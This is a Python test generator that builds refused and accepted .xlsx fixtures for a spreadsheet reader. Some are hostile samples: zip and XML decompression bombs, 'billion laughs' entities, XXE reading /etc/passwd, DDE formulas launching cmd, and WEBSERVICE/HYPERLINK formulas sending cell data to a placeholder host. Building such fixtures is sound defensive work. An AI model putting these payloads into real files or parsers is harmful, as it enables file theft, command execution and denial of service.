"""Files that must be refused, each in its own way, or read without harm."""
import pathlib
import struct
import sys
import zlib

from pack import (GOOD_ROWS, KIND, MAIN, PACKAGE, REL, XML, Entry, deflate,
                  deflate_repeated, parts, rels, sheet_xml, sst_xml, workbook,
                  write_zip)

(OK, EMPTY, NOT_ZIP, TRUNCATED, DAMAGED, ENCRYPTED, XLS, XLSB, HTML, ODS,
 OWNER, MACROS, DOCTYPE, BOMB) = range(14)
FILES = []          # (name, expected refusal, function → bytes)
SHEET1 = "xl/worksheets/sheet1.xml"


def file(expected):
    def add(function):
        FILES.append((function.__name__, expected, function))
        return function
    return add


def many(expected, **bodies):
    """Several files of one kind: keyword = name, value → bytes."""
    for name, make in bodies.items():
        FILES.append((name, expected, make))


def one_cell(cell, **attrs):
    row = "".join(f' {k}="{v}"' for k, v in attrs.items())
    return lambda: workbook(sheet_xml(f"<row{row}>{cell}</row>"))


def flipped(where):
    """A workbook with one bit of its sheet's compressed data turned."""
    def make():
        data = bytearray(workbook(sheet_xml(
            "".join(f'<row r="{r}"><c r="A{r}"><v>{r * 7}</v></c></row>'
                    for r in range(1, 400)))))
        at = data.index(SHEET1.encode()) + len(SHEET1)
        data[at + where] ^= 0x10
        return bytes(data)
    return make


def cfb(stream):
    """A compound file with one named stream, as old Office writes it."""
    def directory(name, kind):
        text = name.encode("utf-16le") + b"\0\0"
        return (text.ljust(64, b"\0") + struct.pack("<HB", len(text), kind)
                ).ljust(128, b"\0")
    head = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) +
            struct.pack("<HHHH", 0x3e, 3, 0xfffe, 9)).ljust(512, b"\0")
    return head + bytes(512) + (directory("Root Entry", 5) +
                                directory(stream, 2)).ljust(512, b"\0")


def replaced(part, text):
    """A good workbook with one part replaced (None: left out)."""
    return lambda: workbook(add={part: text})


# ---- not a workbook at all ----

many(EMPTY, empty=lambda: b"")
many(TRUNCATED,
     only_zeros=lambda: bytes(8192),
     three_bytes=lambda: b"PK\3",
     half=lambda: workbook()[:700],
     end_missing=lambda: workbook()[:-3])
many(NOT_ZIP,
     csv=lambda: "序号,姓名\n1,甲\n".encode(),
     picture=lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8,
     plain_zip=lambda: write_zip([Entry("a.txt", "hello")]),
     no_entries=lambda: b"PK\3\4" + bytes(26) + write_zip([], dir_at=30),
     word=lambda: workbook(add={"xl/workbook.xml": XML + '<w:document xmlns:w='
                                '"http://schemas.openxmlformats.org/word'
                                'processingml/2006/main"/>'}),
     beta_2006=lambda: workbook(add={"xl/workbook.xml": parts()[
         "xl/workbook.xml"].replace("2006/main", "2006/5/main")}))
many(HTML,
     html=lambda: b"<html><body><table><tr><td>1</td></tr></table>",
     html_upper=lambda: b"\r\n  <!DOCTYPE HTML PUBLIC><HTML></HTML>",
     html_utf16=lambda: "\ufeff<html>表</html>".encode("utf-16le"),
     xml_2003=lambda: (XML + '<Workbook xmlns="urn:schemas-microsoft-com:'
                       'office:spreadsheet"/>').encode(),
     mhtml=lambda: b"MIME-Version: 1.0\r\nX-Document-Type: Workbook\r\n")
many(XLS,
     xls=lambda: cfb("Workbook"), xls_95=lambda: cfb("Book"),
     biff4=lambda: bytes([9, 4, 6, 0, 0, 4, 16, 0, 0, 0, 10, 0, 0, 0]))
many(ENCRYPTED, password=lambda: cfb("EncryptedPackage"))
many(OWNER,
     owner_excel=lambda: b"\x04user".ljust(55, b" ") + b"\x04\0" +
     "user".encode("utf-16le").ljust(108, b"\0"),
     owner_libreoffice=lambda: b",user,host,06.04.2023 08:30,file:///x;")
many(ODS, ods=lambda: write_zip([
    Entry("mimetype", "application/vnd.oasis.opendocument.spreadsheet",
          method=0), Entry("content.xml", "<x/>"),
    Entry("META-INF/manifest.xml", "<x/>")]))
many(XLSB, xlsb=lambda: workbook(add={
    "_rels/.rels": rels([("rId1", "officeDocument", "xl/workbook.bin", "")]),
    "xl/workbook.bin": bytes(64)}))

# ---- zips that lie ----

many(DAMAGED,
     flip_early=flipped(12), flip_middle=flipped(800), flip_late=flipped(1500),
     crc_wrong=lambda: workbook(extra=[Entry("x.xml", "<x/>", crc=1)]),
     bytes_behind=lambda: workbook() + b"junk",
     second_end_in_comment=lambda: workbook(
         comment=b"PK\5\6" + bytes(18)),
     same_name=lambda: workbook(extra=[Entry(SHEET1, sheet_xml())]),
     same_name_case=lambda: workbook(
         extra=[Entry(SHEET1.upper(), sheet_xml())]),
     same_name_backslash=lambda: workbook(
         extra=[Entry(SHEET1.replace("/", "\\"), sheet_xml())]),
     local_name=lambda: workbook(
         extra=[Entry("a.xml", "<x/>", local={"name": b"b.xml"})]),
     local_method=lambda: workbook(
         extra=[Entry("a.xml", "<x/>", local={"method": 0})]),
     local_size=lambda: workbook(
         extra=[Entry("a.xml", "<x/>", local={"size": 9})]),
     method_bzip2=lambda: workbook(extra=[Entry("a", "x", method=12)]),
     name_with_nul=lambda: workbook(extra=[Entry(b"a\0b", "x")]),
     split_archive=lambda: workbook(disk=3),
     descriptor_lies=lambda: workbook(extra=[
         Entry("a", "x", flags=8, tail=b"PK\7\10" + bytes(12))]),
     directory_moved=lambda: workbook(dir_at=10),
     directory_longer=lambda: workbook(claimed=2),
     stored_two_sizes=lambda: workbook(
         extra=[Entry("a", "xyz", method=0, size=9)]),
     declared_too_small=lambda: workbook(extra=[Entry(
         "a.xml", packed=deflate_repeated(b" " * 65536, 16384), size=100)]),
     declared_too_large=lambda: workbook(
         extra=[Entry("a.xml", "<x/>", size=5000)]),
     bytes_behind_stream=lambda: workbook(extra=[
         Entry("a.xml", b"<x/>", packed=deflate(b"<x/>") + b"more")]),
     zip64_end_outside=lambda: workbook(
         before_end=b"PK\6\7" + struct.pack("<LQL", 0, 2**62, 1)),
     zip64_end_disagrees=lambda: workbook(
         before_end=b"PK\6\6" + bytes(52) +
         b"PK\6\7" + struct.pack("<LQL", 0, len(workbook()) - 22, 1)),
     zip64_extra_cut=lambda: workbook(extra=[
         Entry("a", "x", size=0xffffffff, extra=b"\1\0\x40\0")]),
     zip64_local_lies=lambda: workbook(extra=[
         Entry("a", "x", method=0,
               local={"size": 0xffffffff, "packed_size": 0xffffffff},
               extra=b"\1\0\x10\0" + struct.pack("<QQ", 1, 2))]),
     zip64_local_missing=lambda: workbook(extra=[
         Entry("a", "x", method=0, local={"size": 0xffffffff})]),
     empty_deflated=lambda: workbook(extra=[
         Entry("a", "", packed=b"", size=5)]),
     zip64_offset=lambda: workbook(extra=[
         Entry("a", "x", offset=0xffffffff, extra=b"\1\0\x08\0" +
               b"\xff" * 8)]))
many(ENCRYPTED,
     zip_password=lambda: workbook(extra=[Entry("a", "x", flags=1)]))


@file(BOMB)
def overlap():
    """An entry inside the stored data of another."""
    inner = write_zip([Entry("b", "y" * 50, method=0)])[:81]
    outer = Entry("a", inner, method=0)
    at = workbook().index(b"PK\1\2")
    return write_zip([Entry(n, d) for n, d in parts().items()] + [
        outer, Entry("b", "y" * 50, method=0, offset=at + 31)])


many(BOMB,
     zip64_huge=lambda: workbook(extra=[
         Entry("a", "x", size=0xffffffff, extra=b"\1\0\x10\0" +
               struct.pack("<QQ", 2**40, 3))]),
     four_gigabytes=lambda: workbook(extra=[Entry(
         "a.xml", packed=deflate_repeated(b" " * 2**20, 4095),
         size=4095 * 2**20)]),
     ratio=lambda: workbook(extra=[Entry(
         "a.xml", packed=deflate_repeated(b" " * 2**20, 240),
         size=240 * 2**20)]),
     too_many_entries=lambda: workbook(
         extra=[Entry(f"x{i}", "") for i in range(2500)]),
     file_of_21_megabytes=lambda: workbook(
         extra=[Entry("a", bytes(21 * 2**20), method=0)]))

# ---- XML that lies ----

many(BOMB,
     shared_string_blowup=lambda: workbook(
         sheet_xml('<row><c t="s"><v>0</v></c></row>' * 9000),
         sst_xml(f"<si><t>{'台' * 32000}</t></si>")),
     two_million_cells=lambda: workbook(sheet_xml(
         ("<row>" + "<c><v>1</v></c>" * 1000 + "</row>") * 2100)),
     three_million_strings=lambda: workbook(sst=sst_xml("<si/>" * 3000000)),
     cell_of_a_megabyte=one_cell('<c t="inlineStr"><is><t>' + "x" * 2**20 +
                                 "</t></is></c>"),
     cell_of_32768=one_cell('<c t="inlineStr"><is><t>' + "台" * 32768 +
                            "</t></is></c>"),
     string_of_32768=lambda: workbook(
         sst=sst_xml(f"<si><t>{'台' * 32768}</t></si>")),
     formula_of_a_megabyte=one_cell("<c><f>" + "1+" * 2**19 + "1</f></c>"),
     deep=lambda: workbook(sheet_xml("<a>" * 100000)),
     deep_in_cell=one_cell("<c><is>" + "<r>" * 100),
     deep_workbook=lambda: workbook(add={
         "xl/workbook.xml": XML + f'<workbook xmlns="{MAIN}">' + "<a>" * 99}),
     million_attributes=lambda: workbook(sheet_xml(
         "<row " + " ".join(f'a{i}="1"' for i in range(1000000)) + "/>")),
     attribute_of_8_megabytes=lambda: workbook(sheet_xml(
         f'<row a="{"x" * 2**23}"/>')),
     long_name=lambda: workbook(sheet_xml(f'<{"x" * 2**23}/>')),
     relations_of_33_megabytes=lambda: workbook(add={
         "_rels/.rels": parts()["_rels/.rels"] + " " * (33 * 2**20)}),
     too_many_sheets=lambda: workbook(add={"xl/workbook.xml": XML +
         f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>' +
         '<sheet name="x" r:id="rId1"/>' * 2000 + "</sheets></workbook>"}),
     too_many_styles=lambda: workbook(add={
         "xl/styles.xml": XML + f'<styleSheet xmlns="{MAIN}"><cellXfs>' +
         '<xf numFmtId="0"/>' * 70000 + "</cellXfs></styleSheet>",
         "xl/_rels/workbook.xml.rels": rels([
             ("rId1", "worksheet", "worksheets/sheet1.xml", ""),
             ("rId2", "styles", "styles.xml", "")])}))

LAUGHS = ('<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'
    for i in range(9)) + "]>")
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
many(DOCTYPE,
     laughs_in_sheet=lambda: workbook(sheet_xml(before=LAUGHS)),
     xxe_in_sheet=lambda: workbook(sheet_xml(before=XXE)),
     xxe_in_strings=lambda: workbook(
         sst=sst_xml().replace("<sst", XXE + "<sst")),
     laughs_in_workbook=lambda: workbook(add={
         "xl/workbook.xml": parts()["xl/workbook.xml"].replace(
             "<workbook", LAUGHS + "<workbook")}),
     xxe_in_rels=lambda: workbook(add={
         "_rels/.rels": parts()["_rels/.rels"].replace(
             "<Relationships", XXE + "<Relationships", 1)}),
     xxe_in_utf16=lambda: workbook(sheet_xml(before=XXE).replace(
         "UTF-8", "UTF-16").encode("utf-16")))

many(DAMAGED, **{
    f"bytes_{name}": (lambda bad: lambda: workbook(sheet_xml(
        '<row><c t="str"><v>@</v></c></row>').encode().replace(b"@", bad)))(bad)
    for name, bad in {
        "lone": b"\xff", "cut": b"\xe5\x8f", "overlong": b"\xc0\x80",
        "surrogate": b"\xed\xa0\x80", "beyond": b"\xf4\x90\x80\x80",
        "nul": b"\0", "control": b"\x01", "fffe": b"\xef\xbf\xbe",
        "gbk": "台账".encode("gbk")}.items()})
many(DAMAGED, **{f"xml_{name}": (lambda x: lambda: workbook(sheet_xml(x)))(x)
                 for name, x in {
    "mismatch": "<row></c>", "unclosed": "<row>", "two_roots": "</sheetData>"
    "</worksheet><worksheet><sheetData>", "attribute_twice":
    '<row r="1" r="1"/>', "prefix_unknown": "<q:row/>", "entity": "&nbsp;",
    "reference_nul": "&#0;", "reference_huge": "&#x110000;", "cdata_end":
    "]]>", "less_in_attribute": '<row a="<"/>', "no_quotes": "<row r=1/>",
    "no_space": '<row r="1"s="1"/>', "comment": "<!-- a -- b -->",
    "late_declaration": '<?xml version="1.0"?>', "declaration":
    "<!ELEMENT x>", "ampersand": "a & b", "cdata_open": "<![CDATA[x",
    }.items()})
many(DAMAGED,
     row_4294967296=one_cell("<c><v>1</v></c>", r="4294967296"),
     row_0=one_cell("<c><v>1</v></c>", r="0"),
     row_1048577=one_cell("<c><v>1</v></c>", r="1048577"),
     row_minus=one_cell("<c><v>1</v></c>", r="-1"),
     column_zzzzzzzz=one_cell('<c r="ZZZZZZZZ1"><v>1</v></c>', r="1"),
     column_xfe=one_cell('<c r="XFE1"><v>1</v></c>', r="1"),
     column_only=one_cell('<c r="A"><v>1</v></c>', r="1"),
     cell_in_wrong_row=one_cell('<c r="A2"><v>1</v></c>', r="1"),
     columns_beyond=one_cell("<c/>" * 16385),
     string_index_huge=one_cell(f'<c t="s"><v>{10**20}</v></c>'),
     string_index_minus=one_cell('<c t="s"><v>-1</v></c>'),
     string_index_one_too_far=one_cell('<c t="s"><v>1</v></c>'),
     number_none=one_cell("<c><v>12abc</v></c>"),
     number_hex=one_cell("<c><v>0x1F</v></c>"),
     boolean_none=one_cell('<c t="b"><v>maybe</v></c>'),
     cell_type_none=one_cell('<c t="zzz"><v>1</v></c>'),
     merge_none=lambda: workbook(sheet_xml(
         GOOD_ROWS, after='<mergeCells><mergeCell ref="B2:A1"/></mergeCells>')),
     name_not_text=lambda: workbook(extra=[
         Entry(b"\xff\xfe\n\x1b[2J.rels", "<x")]),
     sheet_name_turned=lambda: workbook("<x/>", add={
         "xl/workbook.xml": parts()["xl/workbook.xml"].replace(
             "台账", "\u202e台账" + "甲" * 60)}),
     sheet_name_endless=lambda: workbook(add={
         "xl/workbook.xml": parts()["xl/workbook.xml"].replace(
             "台账", "台" * 9999)}),
     encoding_far_away=lambda: workbook(sheet_xml(GOOD_ROWS).replace(
         " encoding", " " * 999 + "encoding").replace("UTF-8", "GBK")
         .encode("gbk")),
     sheet_missing=replaced(SHEET1, None),
     sheet_is_workbook=replaced("xl/_rels/workbook.xml.rels", rels(
         [("rId1", "worksheet", "workbook.xml", "")])),
     sheet_of_no_type=replaced("xl/_rels/workbook.xml.rels", rels(
         [("rId1", "theme", "worksheets/sheet1.xml", "")])),
     sheet_twice=replaced("xl/_rels/workbook.xml.rels", rels(
         [("rId1", "worksheet", "worksheets/sheet1.xml", ""),
          ("rId1", "worksheet", "sharedStrings.xml", "")])),
     two_workbooks=replaced("_rels/.rels", rels(
         [("rId1", "officeDocument", "xl/workbook.xml", ""),
          ("rId2", "officeDocument", "xl/other.xml", "")])),
     no_sheets=replaced("xl/workbook.xml", XML +
                        f'<workbook xmlns="{MAIN}"><sheets/></workbook>'),
     encoding_gbk=lambda: workbook(sheet_xml(GOOD_ROWS).replace(
         "UTF-8", "GBK").encode("gbk")),
     workbook_cut=replaced("xl/workbook.xml", XML + "<workbook"),
     strings_cut=lambda: workbook(sst=XML + f'<sst xmlns="{MAIN}"><si><t>x'))

# ---- content that acts ----


def related(kind, target="x.bin", more="", where="xl/_rels/workbook.xml.rels",
            base=True):
    items = [("rId1", "worksheet", "worksheets/sheet1.xml", ""),
             ("rId2", "sharedStrings", "sharedStrings.xml", "")] if base else []
    return lambda: workbook(add={
        where: rels([*items, ("rId9", kind, target, more)]),
        "xl/x.bin": b"x"})


def formula(text):
    return one_cell(f"<c><f>{text}</f><v>1</v></c>")


IN_SHEET = {"where": "xl/worksheets/_rels/sheet1.xml.rels", "base": False}
many(MACROS,
     macros=related("vbaProject"),
     macros_unreferenced=lambda: workbook(add={"xl/vbaProject.bin": b"x"}),
     macro_sheet=related("xlMacrosheet"),
     dialog_sheet=replaced("xl/_rels/workbook.xml.rels", rels(
         [("rId1", "dialogsheet", "worksheets/sheet1.xml", "")])),
     external_link=related("externalLink"),
     connections=related("connections"),
     ole_object=related("oleObject", **IN_SHEET),
     embedded_package=related("package", **IN_SHEET),
     picture_from_outside=related(
         "image", "https://x/a.png", ' TargetMode="External"', base=False,
         where="xl/drawings/_rels/drawing1.xml.rels"),
     activex=related("control", **IN_SHEET),
     dde=formula("cmd|'/c calc'!A0"),
     dde_quoted=formula("'cmd'|'/c calc'!A0"),
     dde_function=formula('DDE("cmd";"/c calc";"x")'),
     webservice=formula('_xlfn.WEBSERVICE("http://x/"&amp;A1)'),
     hyperlink=formula('HYPERLINK("http://x/?q="&amp;A1,"点此")'),
     hyperlink_share=formula('HYPERLINK("\\\\x\\y","点此")'),
     image=formula('_xlfn.IMAGE("https://x/"&amp;A1)'),
     webservice_spaced=formula('SUM(WebService ("x"))'),
     call_deep=formula('IF(1,CALL("a","b"),0)'),
     rtd=formula('RTD("a",,"b")'))

# ---- strange but harmless: must be read ----

many(OK,
     good=workbook,
     itself_inside=lambda: workbook(
         extra=[Entry("xl/media/copy.xlsx", workbook(), method=0)]),
     path_upwards=lambda: workbook(
         extra=[Entry("../../etc/passwd", "x"), Entry("/abs", "x")]),
     archive_comment=lambda: workbook(comment=b"PK\5\6 not really"),
     descriptor=lambda: workbook(extra=[
         Entry("a", "x", flags=8, local={"size": 0, "packed_size": 0,
                                         "crc": 0},
               tail=b"PK\7\10" + struct.pack("<LLL", zlib.crc32(b"x"), 3, 1))]),
     folders_deflated=lambda: workbook(extra=[
         Entry("xl/", packed=b""), Entry("docProps/", method=0)]),
     flags_of_level=lambda: workbook(
         extra=[Entry("a", "x", local={"flags": 6})]),
     chart_sheet=replaced("xl/_rels/workbook.xml.rels", rels(
         [("rId1", "chartsheet", "worksheets/sheet1.xml", "")])),
     hyperlink_to_click=related(
         "hyperlink", "https://x/", ' TargetMode="External"', **IN_SHEET),
     comment_of_32_megabytes=lambda: workbook(sheet_xml(
         "<!--" + "- " * 2**24 + "-->")),
     infinite_numbers=one_cell("<c><v>1e400</v></c><c><v>-NAN</v></c>"
                               "<c><v>INF</v></c><c><v>-0</v></c>"),
     lying_counts=lambda: workbook(sst=sst_xml().replace(
         "<sst", '<sst count="4294967295" uniqueCount="99999999999"')),
     utf16=lambda: workbook(sheet_xml(GOOD_ROWS).replace(
         "UTF-8", "UTF-16").encode("utf-16")),
     bars_in_quotes=formula("'a|b'!A1&amp;\"x|y\"&amp;T[a|b]"),
     names_that_end_alike=formula('MYIMAGE(1)+RECALL(2)+A.DDE(3)'),
     hyperlink_inside=formula('HYPERLINK("#台账!A1","跳转")'))


def build(folder, only=""):
    """Writes the files; yields (path, expected refusal)."""
    for name, expected, make in FILES:
        if only in name:
            path = pathlib.Path(folder) / f"{name}.xlsx"
            path.write_bytes(make())
            yield path, expected


if __name__ == "__main__":
    for made, want in build(sys.argv[1], *sys.argv[2:]):
        print(want, made)
